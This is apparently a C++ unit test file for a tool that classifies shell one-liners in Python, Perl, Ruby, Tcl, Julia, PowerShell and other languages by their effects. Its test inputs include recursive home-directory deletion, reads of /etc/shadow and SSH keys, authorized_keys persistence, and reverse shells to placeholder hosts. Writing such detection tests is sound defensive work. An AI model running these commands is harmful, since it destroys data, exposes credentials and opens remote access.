// Inline code of other languages: calls are found, mentions are not.
#include "test/unit/commands/effects_of.hpp"

using cmdai::test::check_effects;

TEST_CASE("names that stand for something else in code") {
  check_effects({
      {"python3 -c 'import subprocess as s; s.run(\"rm f\", shell=True)'", "fs.delete{f}"},
      {"python3 -c 'import os as o, sys; o.system(\"rm f\")'", "fs.delete{f}"},
      {"python3 -c 'exec(\"import os; os.remove(\\\"f\\\")\")'", "fs.delete{f f}"},
      {"python3 -c 'import os\nfor r,d,f in os.walk(os.path.expanduser(\"~\")):\n  for x in f: "
       "os.remove(os.path.join(r,x))'",
       "fs.delete{~ rf}"},
      {"perl -e 'exec \"rm\",\"-rf\",$ENV{HOME}'", "fs.delete{~ rf}"},
      {"ruby -e 'system(\"rm\", \"-rf\", Dir.home)'", "fs.delete{~ rf}"},
      {"proot -r x rm -rf f", "fs.delete{f rf}"},
  });
}

TEST_CASE("cmd.exe from WSL and Git's bash") {
  check_effects({
      {"cmd.exe /c 'rd /s /q C:\\'", "fs.delete{/mnt/c rf}"},
      {"cmd /c rmdir /s /q 'D:\\work'", "fs.delete{/mnt/d/work rf}"},
      {"cmd //c 'del /f /s /q \"C:\\Users\\ann\\My Files\"'", "fs.delete{/home/ann/My Files rf}"},
      {"cmd.exe /c 'echo rd /s C:\\'", ""},
      {"cmd.exe /c 'cd x & del y.txt'", "fs.delete{y.txt}"},
      {"cmd.exe /c 'format d:'", "disk.mkfs{d:}"},
      {"cmd.exe /c dir", ""},
  });
}

TEST_CASE("lines behind a program that asks for the next one are its input") {
  check_effects({
      {"python3\nimport shutil\nshutil.rmtree('x')", "fs.delete{x rf}"},
      {"psql app\nDROP TABLE users;", "sql.drop-table{DROP TABLE USERS}"},
      {"sudo mysql\nDROP DATABASE shop;", "sql.drop-database{DROP DATABASE SHOP p}"},
      {"jjs\nvar w = new java.io.FileWriter('/home/u/.ssh/authorized_keys')",
       "persist.ssh-key{~/.ssh/authorized_keys}"},
      {"tclsh\nset x [exec rm f]", "fs.delete{f}"},
      {"vi /etc/cron.d/x\niDATA", "sys.cron{/etc/cron.d/x}"},
      {"vi /etc/cron.d/x", ""},
      {"vi /etc/cron.d/x\n\n", ""},
      {"python3 x.py\necho 1", "exec.file{x.py}"},
      {"if x; then python3\nfi", ""},
      {"terraform console\nfile(\"/home/u/.ssh/id_rsa\")", "secret.read{~/.ssh/id_rsa}"},
      {"gdb ./a.out\nshell rm -rf d", "fs.delete{d rf}"},
      {"ftp example.org\n!rm -rf d", "fs.delete{d rf}"},
      {"less notes.txt\n!rm -rf d", "fs.delete{d rf}"},
      {"bash <<'X'\npython3\nimport shutil\nshutil.rmtree('x')\nX", "fs.delete{x rf}"},
      {"printf 'psql app\\nDROP TABLE users;' | sh", "sql.drop-table{DROP TABLE USERS}"},
      {"bash <<'X'\npython3 < y\nimport shutil\nshutil.rmtree('x')\nX", ""},
      {"bash -c $'python3\\nimport shutil\\nshutil.rmtree(\"x\")'", "self.live-shell"},
  });
}

TEST_CASE("python") {
  check_effects({
      {"python3 -c 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"python3 -Bc 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"python3.11 -W ignore -c 'import shutil; shutil.rmtree(\"d\")'", "fs.delete{d rf}"},
      {"python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"d\"])'", "fs.delete{d rf}"},
      {"python -c 'import subprocess; subprocess.run(\"rm f\", shell=True)'", "fs.delete{f}"},
      {"python -c 'import os; os.remove(\"f\")'", "fs.delete{f f}"},
      {"python -c 'print(\"os.system(1)\")'", ""},
      {"python -c 'x = 1 # os.system(\"rm f\")'", ""},
      {"python -c 'print(1)'", ""},
      {"python -c 'open(\"f\", \"w\")'", "fs.overwrite{f}"},
      {"python -c 'print(open(\"f\").read())'", ""},
      {"python x.py -c y", "exec.file{x.py}"},
      {"python -m http.server", ""},
      {"python --version", ""},
      {"echo 'import os; os.system(\"rm f\")' | python3", "fs.delete{f}"},
      {"python3 <<E\nimport os\nos.system('rm f')\nE", "fs.delete{f}"},
  });
}

TEST_CASE("options in one word, and their spellings") {
  check_effects({
      {"perl -le 'system(\"rm f\")'", "fs.delete{f}"},
      {"perl -lne 'system(\"rm f\")' g", "fs.delete{f}"},
      {"perl -lane 'system(\"rm f\")' g", "fs.delete{f}"},
      {"perl -0777ne 'system(\"rm f\")' g", "fs.delete{f}"},
      {"perl -0x1Fwe 'system(\"rm f\")'", "fs.delete{f}"},
      {"perl -F: -lane 'system(\"rm f\")' g", "fs.delete{f}"},
      {"perl -l012 -e 'system(\"rm f\")'", "fs.delete{f}"},
      {"perl -lpi -e 's/a/b/' f", "fs.edit{f}"},
      {"perl -lne 'print if /x/' f", ""},
      {"ruby -lane 'system(\"rm f\")' g", "fs.delete{f}"},
      {"node -pe 'require(\"child_process\").execSync(\"rm f\")'", "fs.delete{f}"},
      {"node -p 'require(\"child_process\").execSync(\"rm f\")'", "fs.delete{f}"},
      {"node --print 'require(\"child_process\").execSync(\"rm f\")'", "fs.delete{f}"},
      {"node -p 1+1", ""},
      {"$PYTHON -c 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"\"$PY\" -m http.server", ""},
      {"ruby -rsocket -e 'c=TCPServer.new(4).accept; exec \"/bin/sh\"'", "self.live-shell net.reverse-shell"},
      {"ruby -rsocket -e 'puts TCPServer.new(4).accept.gets'", ""},
      {"awk -e 'BEGIN{system(\"rm f\")}'", "fs.delete{f}"},
      {"gawk --source='BEGIN{system(\"rm f\")}' g", "fs.delete{f}"},
      {"echo 'BEGIN{system(\"rm f\")}' > p; awk -f p", "fs.overwrite{p} fs.delete{f}"},
      {"awk 'BEGIN{print \"rm f\" | \"sh\"}'", "fs.delete{f}"},
      {"awk '{print \"x\" | \"sort\"}' g", ""},
      {"python3.12 -Ic 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"py -3 -c 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"pypy3 -c 'import os; os.system(\"rm f\")'", "fs.delete{f}"},
      {"deno eval 'Deno.removeSync(\"d\", {recursive: true})'", "fs.delete{d rf}"},
      {"deno eval -q 'new Deno.Command(\"rm\", {args: [\"-rf\", \"d\"]}).outputSync()'", "fs.delete{d rf}"},
      {"bun -e 'await Bun.$`rm -rf d`'", "fs.delete{d rf}"},
      {"node -e 'console.log(`rm -rf d`)'", ""},
      {"node -e 'require(\"fs\").rmSync(\"d\", {recursive: false})'", "fs.delete{d f}"},
  });
}

TEST_CASE("R, julia, octave, elixir, erlang, lisps") {
  check_effects({
      {"Rscript -e 'system(\"rm f\")'", "fs.delete{f}"},
      {"R -q -e 'unlink(\"d\", recursive=TRUE)'", "fs.delete{d rf}"},
      {"Rscript -e 'file.remove(\"f\")'", "fs.delete{f f}"},
      {"Rscript -e 'system2(\"rm\", c(\"-rf\", \"d\"))'", "fs.delete{d rf}"},
      {"Rscript -e 'install.packages(\"x\")'", ""},
      {"Rscript -e 'x <- 1 # system(\"rm f\")'", ""},
      {"julia -e 'run(`rm -rf $(homedir())`)'", "fs.delete{~ rf}"},
      {"julia -e 'rm(homedir(), recursive=true)'", "fs.delete{~ rf}"},
      {"julia -E 'rm(\"f\")'", "fs.delete{f f}"},
      {"julia -e 'using Pkg; Pkg.add(\"X\")'", ""},
      {"octave --eval 'system(\"rm f\")'", "fs.delete{f}"},
      {"elixir -e 'System.cmd(\"rm\", [\"-rf\", \"d\"])'", "fs.delete{d rf}"},
      {"elixir -e 'System.shell(\"rm f\")'", "fs.delete{f}"},
      {"elixir -e 'File.rm_rf!(\"d\")'", "fs.delete{d rf}"},
      {"elixir -e 'IO.puts(\"rm -rf d\")'", ""},
      {"erl -noshell -eval 'os:cmd(\"rm f\").' -s init stop", "fs.delete{f}"},
      {"erl -noshell -eval 'io:format(\"rm f\").' -s init stop", ""},
      {"guile -c '(system \"rm f\")'", "fs.delete{f}"},
      {"guile -c '(system* \"rm\" \"-rf\" \"d\")'", "fs.delete{d rf}"},
      {"guile -c '(display \"rm f\") ; (system \"rm f\")'", ""},
      {"racket -e '(system \"rm f\")'", "fs.delete{f}"},
      {"racket -e \"(displayln 'system)\"", ""},
      {"sbcl --non-interactive --eval '(uiop:run-program \"rm f\")'", "fs.delete{f}"},
      {"bb -e '(clojure.java.shell/sh \"rm\" \"-rf\" \"d\")'", "fs.delete{d rf}"},
      {"emacs --batch --eval '(shell-command \"rm f\")'", "fs.delete{f}"},
      {"emacs -batch -eval '(call-process \"rm\" nil nil nil \"-rf\" \"d\")'", "fs.delete{d rf}"},
      {"emacs --batch --eval='(delete-directory \"~\" t)'", "fs.delete{~ rf}"},
      {"emacsclient -e '(shell-command \"rm f\")'", "fs.delete{f}"},
      {"emacs -nw notes.txt", ""},
      {"emacs --batch --eval '(message \"(shell-command)\")'", ""},
  });
}

TEST_CASE("V runs what it compiles") {
  check_effects({
      {"echo 'fn main() { os.system(\"rm -rf d\") }' > x.v && v run x.v",
       "fs.overwrite{x.v} fs.delete{d rf} exec.file{x.v}"},
      {"echo 'os.rmdir_all(\"d\")!' > x.vsh; v x.vsh",
       "fs.overwrite{x.vsh} fs.delete{d rf} exec.file{x.vsh}"},
      {"echo 'os.rm(\"f\")!' > x.v; v -prod crun x.v", "fs.overwrite{x.v} fs.delete{f f} exec.file{x.v}"},
      {"v -e 'os.execute(\"rm f\")'", "fs.delete{f}"},
      {"echo 'os.rm(\"f\")!' > x.v; v x.v", "fs.overwrite{x.v}"},
      {"v run hello.v", "exec.file{hello.v}"},
      {"v fmt -w x.v", ""},
      {"v version", ""},
  });
}

TEST_CASE("what Python compiled runs as its source does") {
  constexpr std::string_view kWrite = "echo 'import os; os.remove(\"f\")' > x.py; ";
  for (const std::string_view run :
       {"python3 -m py_compile x.py; python3 __pycache__/x.cpython-311.pyc",
        "python2 -m compileall .; python2 x.pyc",
        "python3 -c 'import py_compile; py_compile.compile(\"x.py\", \"y.pyc\")'; python3 y.pyc",
        "python3 -m compileall -q .; python3 __pycache__/x.cpython-311.opt-1.pyc"}) {
    CAPTURE(run);
    bool deletes = false;
    for (const auto& e : cmdai::test::analyzed(std::string(kWrite) + std::string(run)).effects)
      deletes |= e.tag == "fs.delete";
    CHECK(deletes);
  }
  check_effects({{"python3 -m py_compile x.py; python3 x.pyc", "exec.file{x.pyc}"}});
}

TEST_CASE("tcl and expect") {
  check_effects({
      {"tclsh <<< 'exec rm -rf d'", "fs.delete{d rf}"},
      {"echo 'file delete -force -- d e' | tclsh", "fs.delete{d rf} fs.delete{e rf}"},
      {"echo 'if {1} { exec rm f }' | tclsh", "fs.delete{f}"},
      {"echo 'puts [exec rm f]' | tclsh", "fs.delete{f}"},
      {"echo 'set f [open \"|rm f\" r]' | tclsh", "fs.delete{f}"},
      {"tclsh <<< 'file delete -force $env(HOME)'", "fs.delete{~ rf}"},
      {"expect -c 'spawn rm -rf d; expect eof'", "fs.delete{d rf}"},
      {"expect -c 'system rm f'", "fs.delete{f}"},
      {"expect -c 'send \"rm -rf d\\n\"'", ""},
      {"echo 'puts {exec rm f}' | tclsh", "fs.delete{f}"},
      {"echo '# exec rm f' | tclsh", ""},
      {"tclsh x.tcl", "exec.file{x.tcl}"},
      {"tclsh <<< 'set s [socket h.example 9]; while 1 {gets $s c; puts $s [exec $c]}'", "net.reverse-shell"},
      {"tclsh <<< 'set s [socket h.example 9]; gets $s c; set e \"exec $c\"; eval $e'", "net.reverse-shell"},
      {"tclsh <<< 'set s [socket h.example 9]; exec /bin/sh <@$s >@$s'",
       "exec.file{<@… ?} net.reverse-shell"},
      {"tclsh <<< 'set s [socket h.example 9]; puts $s hi; exec date'", ""},
      {"tclsh <<< 'set c date; exec $c'", ""},
  });
}

TEST_CASE("perl, ruby, node, php, lua, awk") {
  check_effects({
      {"perl -e 'system(\"rm f\")'", "fs.delete{f}"},
      {"perl -e 'system \"rm\", \"-rf\", \"d\"'", "fs.delete{d rf}"},
      {"perl -e 'unlink \"f\"'", "fs.delete{f f}"},
      {"perl -e 'unlink(glob(\"~/*\"))'", "fs.delete{~/* f}"},
      {"perl -MFile::Path -e 'remove_tree(\"$ENV{HOME}\")'", "fs.delete{~ rf}"},
      {"ruby -e 'FileUtils.rm_rf(\"#{Dir.home}/x\")'", "fs.delete{~/x rf}"},
      {"perl -e '`rm f`'", "fs.delete{f}"},
      {"perl -pi -e 's/a/b/' f", "fs.edit{f}"},
      {"perl -i.bak -pe 's/a/b/' f", "fs.edit{f}"},
      {"perl -ne 'print if /rm -rf/' f", ""},
      {"perl -MFile::Path -e 'rmtree(\"d\")'", "fs.delete{d rf}"},
      {"ruby -e 'system(\"rm f\")'", "fs.delete{f}"},
      {"ruby -rfileutils -e 'FileUtils.rm_rf(\"d\")'", "fs.delete{d rf}"},
      {"ruby -e '%x(rm f)'", "fs.delete{f}"},
      {"node -e 'require(\"child_process\").execSync(\"rm f\")'", "fs.delete{f}"},
      {"node --eval='require(\"child_process\").execSync(\"rm f\")'", "fs.delete{f}"},
      {"node -e 'require(\"fs\").rmSync(\"d\", {recursive: true})'", "fs.delete{d rf}"},
      {"node -e 'console.log(\"rm -rf /\")'", ""},
      {"php -r 'system(\"rm f\");'", "fs.delete{f}"},
      {"lua -e 'os.execute(\"rm f\")'", "fs.delete{f}"},
      {"awk 'BEGIN{system(\"rm f\")}'", "fs.delete{f}"},
      {"awk -F: '{print $1}' f", ""},
      {"awk '/rm -rf/{print}' f", ""},
      {"awk '{print \"x\" | \"rm f\"}' g", "fs.delete{f}"},
      {"gawk 'BEGIN{print \"x\" > \"f\"}'", "fs.overwrite{f}"},
      {"php -r 'system(base64_decode(\"cm0gZg==\"));'", "fs.delete{f}"},
      {"ruby -e 'system(%q{rm f})'", "fs.delete{f}"},
      {"perl -e 'exec @ARGV' rm f", "fs.delete{f}"},
  });
}

TEST_CASE("lists, methods, files: what these languages write besides calls with parentheses") {
  check_effects({
      {"perl -e 'unlink glob(\"/etc/*\")'", "fs.delete{/etc/* f}"},
      {"perl -e 'unlink </etc/*>'", "fs.delete{/etc/* f}"},
      {"perl -e 'unlink <*.o>'", "fs.delete{*.o f}"},
      {"perl -e 'print if $a < 3 && $b > 4'", ""},
      {"perl -e 'while (<STDIN>) { print }'", ""},
      {"perl -e 'open(F, \">f\")'", "fs.overwrite{f}"},
      {"perl -e 'open my $f, \">>\", \"f\"; print $f 1'", "fs.overwrite{f}"},
      {"perl -e 'open F, \"</etc/shadow\"; print <F>'", "secret.read{/etc/shadow}"},
      {"perl -e 'open(STDIN, \">&S\")'", ""},
      {"perl -e 'rename \"a\", \"b\"'", "fs.move{a} fs.overwrite{b}"},
      {"python3 -c 'from pathlib import Path; Path(\"f\").write_text(\"x\")'", "fs.overwrite{f}"},
      {"python3 -c 'from pathlib import Path; Path(\"f\").unlink()'", "fs.delete{f f}"},
      {"python3 -c 'from pathlib import Path; print(Path(\"f\").read_text())'", ""},
      {"python3 -c 'import shutil; shutil.move(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
      {"ruby -e 'File.write(\"f\", 1)'", "fs.overwrite{f}"},
      {"ruby -e 'FileUtils.remove_entry_secure(\"d\")'", "fs.delete{d rf}"},
      {"node -e 'require(\"fs\").appendFileSync(\"f\", \"x\")'", "fs.append{f}"},
      {"node -e 'require(\"fs\").createWriteStream(\"f\")'", "fs.overwrite{f}"},
      {"node -e 'require(\"fs\").renameSync(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
      {"php -r 'array_map(\"unlink\", glob(\"d/*\"));'", "fs.delete{d/* f}"},
      {"php -r 'array_map(\"trim\", glob(\"d/*\"));'", ""},
      {"php -r 'fopen(\"f\", \"w\");'", "fs.overwrite{f}"},
      {"lua -e 'os.rename(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
      {"julia -e 'write(\"f\", \"x\")'", "fs.overwrite{f}"},
      {"julia -e 'write(stdout, \"x\")'", ""},
      {"elvish -c 'slurp </etc/shadow'", "secret.read{/etc/shadow}"},
  });
}

TEST_CASE("a socket and what runs what comes from it; decoders and what runs what comes out") {
  check_effects({
      {"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdopen($c,r);"
       "$~->fdopen($c,w);system$_ while<>;'",
       "exec.unknown net.reverse-shell"},
      {"perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(\"h:80\")'", ""},
      {"julia -e 'using Sockets; s=connect(\"h\",1); run(pipeline(`sh`,stdin=s,stdout=s))'",
       "self.live-shell net.reverse-shell"},
      {"julia -e 'using Sockets; s=connect(\"h\",1); print(readline(s))'", ""},
      {"python3 -c 'import codecs; exec(codecs.decode(\"x\", \"rot13\"))'", "exec.decoded"},
      {"python3 -c 'import os,codecs; os.system(codecs.decode(\"x\", \"rot13\"))'", "exec.decoded"},
      {"python3 -c 'exec(bytes.fromhex(\"70\").decode())'", "exec.decoded"},
      {"python3 -c 'import zlib; exec(zlib.decompress(b\"x\"))'", "exec.decoded"},
      {"python3 -c 'import base64,os; os.system(base64.urlsafe_b64decode(\"cm0gZg==\").decode())'",
       "fs.delete{f}"},
      {"python3 -c 'import codecs; print(codecs.decode(\"x\", \"rot13\"))'", ""},
  });
}

TEST_CASE("PowerShell: cmdlets that write") {
  check_effects({
      {"pwsh -c 'Set-Content -Path f -Value x'", "fs.overwrite{f}"},
      {"pwsh -c 'Set-Content -Value x -Path f'", "fs.overwrite{f}"},
      {"pwsh -c 'Set-Content f x'", "fs.overwrite{f}"},
      {"pwsh -c '\"x\" | Out-File f'", "fs.overwrite{f}"},
      {"pwsh -c '\"x\" | Out-File -Append -FilePath f'", "fs.append{f}"},
      {"pwsh -c 'Add-Content f x'", "fs.append{f}"},
      {"pwsh -c 'Get-Date | Tee-Object -FilePath f'", "fs.overwrite{f}"},
      {"pwsh -c '\"x\" > f'", "fs.overwrite{f}"},
      {"pwsh -c 'Get-Date > $null'", ""},
      {"pwsh -c 'Copy-Item a -Destination b'", "fs.overwrite{b}"},
      {"pwsh -c 'Set-Content f x -WhatIf'", ""},
      {"pwsh -c 'Get-Content /etc/shadow'", "secret.read{/etc/shadow}"},
      {"pwsh -c 'Get-Content notes.txt'", ""},
  });
}
